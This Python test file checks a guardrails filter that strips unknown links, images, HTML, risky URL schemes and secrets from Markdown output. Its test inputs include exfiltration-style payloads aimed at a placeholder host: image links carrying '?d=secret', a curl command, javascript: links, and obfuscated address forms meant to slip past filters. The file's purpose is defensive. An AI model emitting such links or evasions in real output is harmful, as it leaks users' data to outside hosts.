"""The output filter: what leaves is Markdown that fetches nothing, leads nowhere unknown and hides nothing."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guardrails.drafts import DraftFilter
from guardrails.output import filtered, urls_in

KNOWN = frozenset({"https://known.example/a?b=1"})
EVIL = "https://evil.example/x?d=secret"


@pytest.mark.parametrize(
    "text",
    [
        f"![]({EVIL})",
        f"![alt text]({EVIL} 'title')",
        f"![a[b]c](<{EVIL}>)",
        f"[click]({EVIL})",
        f"[![x]({EVIL})]({EVIL})",
        f"<{EVIL}>",
        f"see {EVIL}.",
        f"[a]: {EVIL}\n\n![x][a]",
        f"> [a]: <{EVIL}>",
        f"[a]:\n {EVIL}",
        f"<img src='{EVIL}'>",
        f'<picture><source srcset="{EVIL}"><img alt=x></picture>',
        f"`{EVIL}`",
        f"```\ncurl {EVIL}\n```",
        f"> ```\n> curl {EVIL}",
        "www.evil.example/x",
        "[x](//evil.example/x)",
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,eHNz)",
        "data:image/png;base64,iVBORw0KGgo=",
        "[x](command:workbench.action.terminal.new)",
        "vscode://evil.example/x",
        "HTTPS://EVIL.EXAMPLE/x",
        f"https://known.example/a?b=1&{EVIL}",
        "https://known.example/a?b=2",
        "[x](https://known.example/a?b=1&c=evil.example)",
        "![x](https://known.example/a?b=1)",
        "&#104;ttps://evil.example/x <a href=&#104;ttps://evil.example>",
    ],
)
def test_no_address_that_nobody_knows_and_no_image_leaves(text: str) -> None:
    found = filtered(text, KNOWN)
    assert "evil.example" not in found.text.lower().replace("ttps://", "") or "&amp;#104;" in found.text
    assert not [url for url in urls_in(found.text) if url not in KNOWN]
    assert not re.search(r"!\[|<[a-zA-Z/!]|\]\(\s*(?!https://known)", found.text)
    assert found.taken or "&amp;" in found.text


@pytest.mark.parametrize(
    "text",
    [
        "See https://known.example/a?b=1.",
        "[guide](https://known.example/a?b=1)",
        "[the file](shop/a.py:3) and [again](./shop/a.py#L3) and [below](#notes)",
        "`a < b` and `List<String>`",
        "cited as path:line or file:line, about:nothing, data:read",
        "if a < b: c::d, std::vector, C:\\dir, note: x, a ratio of 3:4",
        "```python\nx = a[0](b) if a <b else {'k': 1}\n```",
        "- `f` calls `g` — `a.py:3` (exact)",
        "Baskets [1][2], more [3].",
    ],
)
def test_what_is_known_stays_as_it_is(text: str) -> None:
    found = filtered(text, KNOWN, {"shop/a.py"})
    assert (found.text, found.taken) == (text, {})


def test_html_is_text_outside_of_code() -> None:
    assert filtered("a <b>c</b> `<b>`", ()).text == "a &lt;b>c&lt;/b> `<b>`"


def test_secrets_and_personal_data_are_masked_and_counted() -> None:
    found = filtered("The key is AKIAIOSFODNN7ABCDEFG, ask ada.hopper@fernpost.de.", ())
    assert "AKIA" not in found.text and "fernpost" not in found.text
    assert found.taken == {"secret": 2}


PIECES = st.lists(
    st.sampled_from(
        [
            "![",
            "[",
            "]",
            "](",
            ")",
            "(",
            "<",
            ">",
            "`",
            "```\n",
            "~~~\n",
            "\n",
            " ",
            "> ",
            "img src=",
            EVIL,
            "https://known.example/a?b=1",
        ]
        + [
            "www.evil.example",
            "data:x,y",
            "&#104;",
            "&lt;",
            "\u202e",
            "\x1b[2J",
            "word",
            ".",
            "[a]: ",
            "!",
            "\\",
            "'",
            '"',
            "javascript:x",
        ]
    ),
    max_size=14,
).map("".join)


@given(PIECES)
def test_filtering_holds_for_whatever_is_written_and_twice_is_once(text: str) -> None:
    once = filtered(text, KNOWN).text
    assert not [url for url in urls_in(once) if url not in KNOWN]
    assert "\u202e" not in once and "\x1b" not in once
    assert filtered(once, KNOWN).text == once


@given(PIECES, st.integers(1, 7))
def test_a_draft_in_pieces_leads_nowhere_unknown_either(text: str, step: int) -> None:
    draft = DraftFilter(KNOWN, lambda _: 0)
    shown = [draft.feed(text[at : at + step]) for at in range(0, len(text), step)]
    assert not [url for url in urls_in("".join([*shown, draft.finish()])) if url not in KNOWN]


def test_a_draft_comes_sentence_by_sentence_and_whole() -> None:
    draft = DraftFilter((), lambda _: 0)
    text = "`f` calls `g` [1]. It is [not\nso] simple.\n\n```python\nif a <b: pass\n```\nDone."
    pieces = [draft.feed(text[at : at + 3]) for at in range(0, len(text), 3)]
    assert next(filter(None, pieces)) == "`f` calls `g` "
    assert "".join([*pieces, draft.finish()]) == text


def test_what_may_be_a_canary_waits() -> None:
    draft = DraftFilter((), lambda text: len(text) - text.index("zq") if "zq" in text else 0)
    assert draft.feed("It is fine. ") == "It is fine. "
    assert "zq" not in draft.feed("Take zq12. Then ") + draft.feed("more. ")
    assert draft.finish() == "Take zq12. Then more. "


@pytest.mark.parametrize(
    "text",
    ["https:evil.example/x", "https:// evil.example/x", "https:\n//evil.example/x", "https\uff1a//evil.example/x", "see //evil.example/x", "see \\\\evil.example\\x", "https://evil\u3002example/x"],
)  # fmt: skip
def test_an_address_that_is_written_loosely_is_one(text: str) -> None:
    assert "evil" not in filtered(text, ()).text


@pytest.mark.parametrize(
    "text",
    [
        "The key `https` is: a.b",
        "a // comment about a.b",
        "`http: true` in server.yaml",
        "x = a //b.c",
        "//go:build linux",
    ],
)
def test_what_only_looks_like_an_address_stays(text: str) -> None:
    assert filtered(text, ()).text == text
